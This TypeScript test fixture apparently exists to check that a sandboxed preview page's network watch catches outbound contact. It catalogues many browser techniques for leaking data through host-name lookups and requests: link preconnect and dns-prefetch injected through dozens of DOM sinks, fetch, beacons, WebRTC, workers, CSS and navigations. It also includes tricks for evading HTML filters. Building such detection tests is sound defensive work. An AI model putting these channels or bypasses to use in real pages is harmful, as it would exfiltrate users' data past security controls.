/**
 * Ways in which a page makes a browser look up a name or connect to it. Each is the body of a script; `at(name)` returns an address whose host
 * carries data. `seen`: an unprotected page in Chromium does it visibly, which proves that the watch sees it.
 */
export interface Way {
  readonly name: string;
  readonly run: string;
  readonly seen: boolean;
}

/** Ways to put a link of the relation `REL` into a document. `TEXT` is its markup, `U` its address. */
const sinks: Readonly<Record<string, string>> = {
  "an-element": "const l = document.createElement('link'); l.rel = REL; l.href = U; document.head.append(l)",
  "set-later": "const l = document.createElement('link'); document.head.append(l); l.setAttribute('href', U); l.setAttribute('REL', REL)",
  "set-in-no-namespace":
    "const l = document.createElement('link'); l.href = U; document.head.append(l); l.setAttributeNS(null, 'rel', REL)",
  "changed-from-a-style-sheet":
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = U; document.head.append(l); l.rel = REL",
  "address-changed": "const l = document.createElement('link'); l.rel = REL; l.href = '#'; document.head.append(l); l.href = U",
  "a-list-of-tokens": "const l = document.createElement('link'); l.href = U; document.head.append(l); l.relList.add('icon', REL)",
  "a-toggled-token": "const l = document.createElement('link'); l.href = U; document.head.append(l); l.relList.toggle(REL)",
  "a-replaced-token":
    "const l = document.createElement('link'); l.rel = 'help'; l.href = U; document.head.append(l); l.relList.replace('help', REL)",
  "a-list-as-text": "const l = document.createElement('link'); l.href = U; document.head.append(l); l.relList = 'author ' + REL",
  "a-list-value": "const l = document.createElement('link'); l.href = U; document.head.append(l); l.relList.value = REL",
  "an-attribute-node":
    "const l = document.createElement('link'); l.href = U; document.head.append(l); const a = document.createAttribute('rel'); a.value = REL; l.setAttributeNode(a)",
  "an-attribute-node-changed":
    "const l = document.createElement('link'); l.href = U; l.rel = 'help'; document.head.append(l); l.attributes.rel.value = REL",
  "an-attribute-node-as-text":
    "const l = document.createElement('link'); l.href = U; l.rel = 'help'; document.head.append(l); l.getAttributeNode('rel').textContent = REL",
  "an-attribute-map":
    "const l = document.createElement('link'); l.href = U; document.head.append(l); const a = document.createAttribute('rel'); a.value = REL; l.attributes.setNamedItem(a)",
  "inner-html": "const d = document.createElement('div'); document.body.append(d); d.innerHTML = TEXT",
  "outer-html": "const d = document.createElement('div'); document.body.append(d); d.outerHTML = TEXT",
  "adjacent-html": "document.body.insertAdjacentHTML('beforeend', TEXT)",
  "adjacent-html-outside": "const d = document.createElement('div'); document.body.append(d); d.insertAdjacentHTML('afterend', TEXT)",
  "escaped-in-html": "document.body.insertAdjacentHTML('beforeend', TEXT.replace(REL, '&#' + REL.charCodeAt(0) + ';' + REL.slice(1)))",
  "a-template": "const t = document.createElement('template'); t.innerHTML = TEXT; document.body.append(t.content.cloneNode(true))",
  "a-template-in-html":
    "const d = document.createElement('div'); d.innerHTML = '<template>' + TEXT + '</template>'; document.body.append(document.importNode(d.firstChild.content, true))",
  "a-fragment": "document.body.append(document.createRange().createContextualFragment(TEXT))",
  "a-fragment-by-a-range":
    "const r = document.createRange(); r.selectNodeContents(document.body); r.insertNode(r.createContextualFragment(TEXT))",
  "another-document": "document.body.append(document.adoptNode(new DOMParser().parseFromString(TEXT, 'text/html').querySelector('link')))",
  "an-xml-document":
    "document.body.append(new DOMParser().parseFromString('<x:link xmlns:x=\"http://www.w3.org/1999/xhtml\" rel=\"' + REL + '\" href=\"' + U + '\"/>', 'text/xml').documentElement)",
  "a-name-with-a-prefix":
    "const l = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:link'); l.setAttribute('rel', REL); l.setAttribute('href', U); document.body.append(l)",
  "a-closed-shadow-tree":
    "const d = document.createElement('div'); document.body.append(d); d.attachShadow({ mode: 'closed' }).innerHTML = TEXT",
  "an-answer-as-a-document":
    "await new Promise((done) => { const x = new XMLHttpRequest(); x.open('GET', 'data:text/html,' + encodeURIComponent(TEXT)); x.responseType = 'document'; x.onloadend = () => { try { document.body.append(x.response.querySelector('link')); } catch {} done(); }; x.send(); })",
  "a-command":
    "const d = document.createElement('div'); d.contentEditable = 'true'; document.body.append(d); d.focus(); document.execCommand('insertHTML', false, TEXT)",
  "a-table's-caption":
    "const t = document.createElement('table'); document.body.append(t); const c = document.createElement('caption'); c.innerHTML = TEXT; t.caption = c",
  "html-without-a-filter": "const d = document.createElement('div'); document.body.append(d); (d.setHTMLUnsafe ?? d.setHTML).call(d, TEXT)",
  "a-style-sheet-for-xml":
    'const s = new DOMParser().parseFromString(\'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><link rel="\' + REL + \'" href="\' + U + \'"/></xsl:template></xsl:stylesheet>\', \'text/xml\'); const p = new XSLTProcessor(); p.importStylesheet(s); document.body.append(p.transformToFragment(s, document))',
  "after-the-page-changed-what-filters":
    "const keep = [Reflect.apply, String.prototype.toLowerCase]; Reflect.apply = () => 0; String.prototype.toLowerCase = () => 'x'; try { const l = document.createElement('link'); l.rel = REL; l.href = U; document.head.append(l); } finally { [Reflect.apply, String.prototype.toLowerCase] = keep; }",
};
const relations = ["preconnect", "dns-prefetch"];
const otherRelations = [
  "prefetch",
  "prerender",
  "preload",
  "modulepreload",
  "next",
  "search",
  "icon",
  "manifest",
  "pingback",
  "compression-dictionary",
  "expect",
  "stylesheet",
];

/** Chromium has neither of these features, or nothing on its own asks the host. */
const unseen = new Set(["html-without-a-filter", "a-style-sheet-for-xml", "an-answer-as-a-document", "a-command"]);

const linkWay = (name: string, rel: string, sink: string, seen: boolean): Way => ({
  name: `${name.replace(/[^a-z-]/g, "")}-${rel}`,
  run: `const REL = ${JSON.stringify(rel)}, U = at(NAME), TEXT = '<LINK as=script rel="' + REL + '" href="' + U + '">'; ${sink}`,
  seen,
});

/** WebRTC packets carry no host name; e2e/preview-frames.spec.ts listens for them. */
const others: readonly Way[] = [
  [
    "mixed-case-and-tokens",
    "const l = document.createElement('link'); l.rel = 'help\\tPreConnect'; l.href = at(NAME); document.head.append(l)",
    true,
  ],
  [
    "image-set-of-a-hint",
    "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.setAttribute('imagesrcset', at(NAME) + ' 1x'); document.head.append(l)",
    true,
  ],
  [
    "anchor",
    "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"x-dns-prefetch-control\" content=\"on\">'); const a = document.createElement('a'); a.href = at(NAME); a.textContent = 'x'; document.body.append(a)",
    false,
  ],
  [
    "header-in-a-meta",
    "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"Link\" content=\"<' + at(NAME) + '>; rel=preconnect\">')",
    false,
  ],
  ["fetch", "void fetch(at(NAME)).catch(() => 0)", true],
  ["fetch-keepalive", "void fetch(at(NAME), { keepalive: true, mode: 'no-cors' }).catch(() => 0)", true],
  ["beacon", "navigator.sendBeacon(at(NAME), 'x')", true],
  ["xhr", "const x = new XMLHttpRequest(); x.open('GET', at(NAME)); x.send()", true],
  ["websocket", "new WebSocket(at(NAME).replace('https', 'wss'))", true],
  ["events", "new EventSource(at(NAME))", true],
  ["webtransport", "new WebTransport(at(NAME))", true],
  [
    "webrtc",
    "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + new URL(at(NAME)).host }, { urls: 'turn:' + new URL(at(NAME)).host + '?transport=tcp', username: 'u', credential: 'c' }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())",
    false,
  ],
  ["image", "new Image().src = at(NAME)", true],
  ["image-source", "new Image().setAttribute('attributionsrc', at(NAME))", false],
  ["css", "const s = document.createElement('style'); s.textContent = '@import \"' + at(NAME) + '\";'; document.head.append(s)", true],
  ["css-url", "document.body.style.backgroundImage = 'image-set(url(\"' + at(NAME) + '\") 1x)'", true],
  ["font", "void new FontFace('x', 'url(' + at(NAME) + ')').load().catch(() => 0)", true],
  [
    "svg",
    "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"' + at(NAME) + '\"/><use href=\"' + at(NAME) + '#x\"/></svg>')",
    true,
  ],
  [
    "video",
    "document.body.insertAdjacentHTML('beforeend', '<video poster=\"' + at(NAME) + '\" src=\"' + at(NAME) + '\"><track default src=\"' + at(NAME) + '\"></video>')",
    true,
  ],
  [
    "object",
    "document.body.insertAdjacentHTML('beforeend', '<object data=\"' + at(NAME) + '\"></object><embed src=\"' + at(NAME) + '\">')",
    true,
  ],
  ["frame", "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"' + at(NAME) + '\"></iframe>')", true],
  ["script", "const s = document.createElement('script'); s.src = at(NAME); document.head.append(s)", true],
  ["module", "void import(at(NAME)).catch(() => 0)", true],
  ["worklet", "void CSS.paintWorklet.addModule(at(NAME)).catch(() => 0)", false],
  [
    "worker",
    "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(at(NAME)) + ').catch(() => 0); try { importScripts(' + JSON.stringify(at(NAME)) + ') } catch {}'])))",
    true,
  ],
  [
    "nested-worker",
    "const text = (body) => 'new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(body) + '])))'; new Function(text(text('fetch(' + JSON.stringify(at(NAME)) + ').catch(() => 0)')))()",
    true,
  ],
  [
    "ping",
    "const a = document.createElement('a'); a.href = '#x'; a.setAttribute('ping', at(NAME)); document.body.append(a); a.click()",
    true,
  ],
  ["fetch-later", "fetchLater(at(NAME), { activateAfter: 0 })", false],
  ["window", "window.open(at(NAME))", false],
  [
    "payment",
    "void new PaymentRequest([{ supportedMethods: at(NAME) }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => 0)",
    false,
  ],
  [
    "identity",
    "void navigator.credentials.get({ identity: { providers: [{ configURL: at(NAME), clientId: 'x' }] } }).catch(() => 0)",
    false,
  ],
  ["auction", "void navigator.joinAdInterestGroup?.({ owner: at(NAME), name: 'x', lifetimeMs: 1000 }, 1)?.catch(() => 0)", false],
  [
    "instruction",
    "document.head.append(document.createProcessingInstruction('xml-stylesheet', 'href=\"' + at(NAME) + '\" type=\"text/css\"'))",
    false,
  ],
  [
    "reporting",
    "new ReportingObserver(() => 0).observe(); document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"Report-To\" content=\"' + at(NAME) + '\">')",
    false,
  ],
  [
    "public-key",
    "void navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: new URL(at(NAME)).hostname } }).catch(() => 0)",
    false,
  ],
  ["storage-access", "void document.requestStorageAccessFor?.(at(NAME))?.catch(() => 0)", false],
  ["install", "void navigator.install?.(at(NAME), at(NAME))?.catch(() => 0)", false],
  ["protocol-handler", "navigator.registerProtocolHandler?.('web+x', at(NAME) + '/%s')", false],
  ["presentation", "void new PresentationRequest(at(NAME)).getAvailability().catch(() => 0)", false],
  ["socket-stream", "void new WebSocketStream(at(NAME).replace('https', 'wss')).opened.catch(() => 0)", false],
  ["tcp-socket", "void new TCPSocket(new URL(at(NAME)).hostname, 443).opened.catch(() => 0)", false],
  ["shared-storage", "void window.sharedStorage?.createWorklet(at(NAME))?.catch(() => 0)", false],
  [
    "fenced-frame",
    "const f = document.createElement('fencedframe'); f.config = window.FencedFrameConfig && new FencedFrameConfig(at(NAME)); document.body.append(f)",
    false,
  ],
  ["shared-worker", "new SharedWorker(at(NAME))", false],
  ["audio-worklet", "void new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(at(NAME)).catch(() => 0)", true],
  [
    "import-map",
    "document.head.insertAdjacentHTML('beforeend', ''); const m = document.createElement('script'); m.type = 'importmap'; m.textContent = JSON.stringify({ imports: { far: at(NAME) } }); document.head.append(m); void import('far').catch(() => 0)",
    false,
  ],
  ["json-module", "void import(at(NAME), { with: { type: 'json' } }).catch(() => 0)", true],
  [
    "base",
    "const b = document.createElement('base'); b.href = at(NAME); document.head.append(b); new Image().src = 'x.png'; b.remove()",
    false,
  ],
  ["frame-text", "const f = document.createElement('iframe'); f.srcdoc = '<img src=\"' + at(NAME) + '\">'; document.body.append(f)", true],
  [
    "submitting-button",
    "document.body.insertAdjacentHTML('beforeend', '<iframe name=far></iframe><form target=far><button formaction=\"' + at(NAME) + '\"></form>'); document.querySelector('form[target=far] button').click()",
    false,
  ],
  [
    "css-properties",
    "document.body.insertAdjacentHTML('beforeend', '<p style=\"cursor: url(' + at(NAME) + '), auto; mask: url(' + at(NAME) + '#m); filter: url(' + at(NAME) + '#f); shape-outside: url(' + at(NAME) + '); list-style: url(' + at(NAME) + '); border-image: url(' + at(NAME) + ') 1\">x</p>')",
    true,
  ],
  [
    "css-font",
    "const s = document.createElement('style'); s.textContent = '@font-face { font-family: far; src: url(\"' + at(NAME) + '\") } i { font-family: far }'; document.head.append(s); document.body.insertAdjacentHTML('beforeend', '<i>x</i>')",
    true,
  ],
  [
    "svg-filter",
    "document.body.insertAdjacentHTML('beforeend', '<svg><filter id=z><feImage href=\"' + at(NAME) + '\"/></filter><rect width=9 height=9 filter=\"url(#z)\"/><script href=\"' + at(NAME) + '\"></scr' + 'ipt></svg>')",
    true,
  ],
  [
    "picture",
    "document.body.insertAdjacentHTML('beforeend', '<picture><source srcset=\"' + at(NAME) + '\"><img loading=eager></picture><input type=image src=\"' + at(NAME) + '\">')",
    true,
  ],
  ["background", "document.body.insertAdjacentHTML('beforeend', '<table background=\"' + at(NAME) + '\"><td>x</table>')", true],
  [
    "shadow-root",
    "document.body.insertAdjacentHTML('beforeend', '<div id=sh></div>'); document.querySelector('#sh').setHTMLUnsafe('<template shadowrootmode=open><link rel=preconnect href=\"' + at(NAME) + '\"></template>')",
    false,
  ],
  [
    "parsed-document",
    "document.body.append(document.adoptNode(Document.parseHTMLUnsafe('<link rel=preconnect href=\"' + at(NAME) + '\">').querySelector('link')))",
    false,
  ],
  [
    "transformed",
    'const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString(\'<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><link xmlns="http://www.w3.org/1999/xhtml" rel="preconnect" href="\' + at(NAME) + \'"/></xsl:template></xsl:stylesheet>\', \'text/xml\')); document.head.append(x.transformToFragment(new DOMParser().parseFromString(\'<a/>\', \'text/xml\'), document))',
    false,
  ],
  ["written-link", "document.write('<link rel=\"preconnect\" href=\"' + at(NAME) + '\">')", true],
  ["written-in-pieces", "for (const part of ('<link rel=preconnect href=' + at(NAME) + '>').match(/.{1,3}/g)) document.write(part)", true],
  [
    "playlist",
    "const v = document.createElement('video'); v.muted = true; v.src = URL.createObjectURL(new Blob(['#EXTM3U\\n#EXT-X-VERSION:3\\n#EXT-X-TARGETDURATION:10\\n#EXTINF:10,\\n' + at(NAME) + 'x.ts\\n#EXT-X-ENDLIST\\n'], { type: 'application/vnd.apple.mpegurl' })); document.body.append(v); void v.play().catch(() => 0)",
    false,
  ],
  [
    "bundle",
    "const s = document.createElement('script'); s.type = 'webbundle'; s.textContent = JSON.stringify({ source: at(NAME) + 'x.wbn', scopes: [at(NAME)] }); document.head.append(s)",
    true,
  ],
  ["style-module", "void import(at(NAME), { with: { type: 'css' } }).catch(() => 0)", true],
  ["text-module", "void import(at(NAME), { with: { type: 'text' } }).catch(() => 0)", true],
  ["cache", "void caches.open('x').then((cache) => cache.add(at(NAME))).catch(() => 0)", true],
  [
    "remote-playback",
    "const v = document.createElement('video'); v.src = at(NAME); void v.remote.watchAvailability(() => 0).catch(() => 0)",
    true,
  ],
  [
    "entity",
    "new DOMParser().parseFromString('<!DOCTYPE a SYSTEM \"' + at(NAME) + '\" [<!ENTITY e SYSTEM \"' + at(NAME) + '\">]><a>&e;</a>', 'text/xml')",
    false,
  ],
  [
    "candidate",
    "void (async () => { const p = new RTCPeerConnection(), q = new RTCPeerConnection(); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await q.setRemoteDescription(p.localDescription); await q.setLocalDescription(await q.createAnswer()); await p.setRemoteDescription(q.localDescription); void p.addIceCandidate({ sdpMid: '0', candidate: 'candidate:1 1 udp 2113937151 ' + new URL(at(NAME)).hostname + ' 9 typ host' }).catch(() => 0); })()",
    false,
  ],
  ["worker-of-data", "new Worker('data:text/javascript,fetch(' + encodeURIComponent(JSON.stringify(at(NAME))) + ')')", true],
  ...[
    ["font", "new FontFace('x', 'url(' + U + ')').load().catch(() => 0)"],
    ["websocket", "new WebSocket(U.replace('https', 'wss'))"],
    ["socket-stream", "new WebSocketStream(U.replace('https', 'wss'))"],
    ["webtransport", "new WebTransport(U)"],
    ["events", "new EventSource(U)"],
    ["xhr", "const x = new XMLHttpRequest(); x.open('GET', U); x.send()"],
    ["module", "import(U)"],
  ].map(([name, run]) => [
    `worker-${name}`,
    `new Worker(URL.createObjectURL(new Blob(['const U = ' + JSON.stringify(at(NAME)) + ${JSON.stringify(`; ${run}`)}], { type: 'text/javascript' })), { type: 'module' })`,
    true,
  ]),
].map(([name, run, seen]) => ({ name: String(name), run: String(run), seen: seen === true }));

/** All ways. `whole`: with every relation in every sink. */
export function allWays(whole: boolean): readonly Way[] {
  const listed = Object.entries(sinks).flatMap(([name, sink]) =>
    relations
      .filter((rel) => whole || rel === "preconnect" || name === "an-element" || name === "inner-html")
      .map((rel) => linkWay(name, rel, sink, !unseen.has(name))),
  );
  const rest = otherRelations.flatMap((rel) =>
    Object.entries(sinks)
      .filter(([name]) => name === "an-element" || (whole && !["changed-from-a-style-sheet"].includes(name)))
      .map(([name, sink]) => linkWay(name, rel, sink, false)),
  );
  return [...listed, ...rest, ...others.toReversed()];
}

/** Loading ahead of time. The browser does this only when it is idle, so these ways have a page without the others. */
export const ahead: readonly Way[] = ["prefetch", "prerender"].map((action) => ({
  name: `rules-to-${action}`,
  run: `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ ${action}: [{ urls: [at(NAME)], eagerness: 'immediate' }] }); document.head.append(s)`,
  seen: true,
}));

/** Ways that navigate the page itself; each has its own page. */
export const leaving: readonly Way[] = [
  ["location", "globalThis['loca' + 'tion'].href = at(NAME)"],
  ["refresh", "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url=' + at(NAME) + '\">')"],
  [
    "click",
    "const a = document.createElement('a'); a.href = at(NAME); document.body.append(a); a.addEventListener('click', (e) => e.stopPropagation()); a.click()",
  ],
  [
    "form",
    "const f = document.createElement('form'); f.action = at(NAME); document.body.append(f); HTMLFormElement.prototype.submit.call(f)",
  ],
].map(([name, run]) => ({ name: String(name), run: String(run), seen: name !== "form" }));

const elsewhere = "globalThis['loca' + 'tion']";
const ownDocument =
  "'<link rel=\"preconnect\" href=\"' + at(NAME) + '\"><img src=\"' + at(NAME) + '\"><script>fetch(\"' + at(NAME) + '\").catch(() => 0); setTimeout(() => { location.href = \"' + at(NAME) + '\" }, 100)</scr' + 'ipt>'";

/** More ways to navigate the page. */
export const leavingOtherwise: readonly Way[] = [
  ["document-of-a-blob", `${elsewhere}.href = URL.createObjectURL(new Blob([${ownDocument}], { type: 'text/html' }))`],
  ["navigation", "globalThis['naviga' + 'tion'].navigate(at(NAME))"],
  ["download", "const a = document.createElement('a'); a.href = at(NAME); a.download = 'x'; document.body.append(a); a.click()"],
  ["replaced", `${elsewhere}.replace(at(NAME))`],
  ["opened-in-itself", "open(at(NAME), '_self')"],
  [
    "submitter",
    "document.body.insertAdjacentHTML('beforeend', '<form><button formaction=\"' + at(NAME) + '\" formtarget=_self>x</button></form>'); document.querySelector('form').requestSubmit(document.querySelector('form button'))",
  ],
  [
    "area",
    "document.body.insertAdjacentHTML('beforeend', '<map><area href=\"' + at(NAME) + '\"></map>'); document.querySelector('area').click()",
  ],
  [
    "animated-link",
    "document.body.insertAdjacentHTML('beforeend', '<svg><a href=\"#\"><set attributeName=href to=\"' + at(NAME) + '\" begin=0s></set></a></svg>'); setTimeout(() => document.querySelector('svg a').dispatchEvent(new MouseEvent('click', { bubbles: true })), 100)",
  ],
].map(([name, run]) => ({ name: String(name), run: String(run), seen: true }));

/** A page that tries ways one after another and reports when it is done. Its own markup also contains links and a split tag. */
export function pageOf(ways: readonly Way[], prefix: string, address: (name: string) => string): string {
  const pattern = JSON.stringify(address("NAME"));
  // In the page's own text, a tag name would be filtered before a script uses it.
  const split = (script: string) => script.replaceAll(/<(link)/gi, "<' + '$1").replaceAll("</", "<\\/");
  const named = ({ name, run }: Way) => `{ const NAME = ${JSON.stringify(`${prefix}-${name}`)}; ${split(run)} }`;
  // document.write works only while the page is parsed.
  const isWritten = ({ name }: Way) => name.startsWith("written");
  const written = ways.filter(isWritten).map(named).join(" ");
  const tries = ways
    .filter((way) => !isWritten(way))
    .map((way) => `async () => ${named(way)}`)
    .join(",\n");
  const markup = (name: string) => `<link rel="help PreConnect" href="${address(`${prefix}-${name}`)}">`;
  const own = ways.length > leaving.length;
  return `<!doctype html><html><head><title>T</title>${own ? markup("own-text") : ""}</head><body>
    <noscript><p title='</noscript>${own ? markup("mutated").replaceAll("'", "") : ""}'></p></noscript>
    ${own ? `<template>${markup("own-template")}</template><script>document.body.append(document.querySelector("template").content.cloneNode(true))</script>` : ""}
    ${own ? `<script>document.write("<li")</script>nk rel=preconnect href="${address(`${prefix}-around-a-script`)}">` : ""}
    <script>const at = (name) => ${pattern}.replace("NAME", name.toLowerCase()); ${written}</script>
    <script>
    const tries = [${tries}];
    const run = async () => {
      let tried = ${ways.filter(isWritten).length};
      for (const each of tries) { try { await each(); } catch {} tried++; }
      console.log("tried " + tried);
      window.tried = tried;
    };
    ${own ? "void run()" : 'addEventListener("load", () => setTimeout(run, 100))'};
    </script></body></html>`;
}
/** Names of the links in the page's own markup. */
export const ownText = ["own-text", "own-template", "mutated", "around-a-script"] as const;
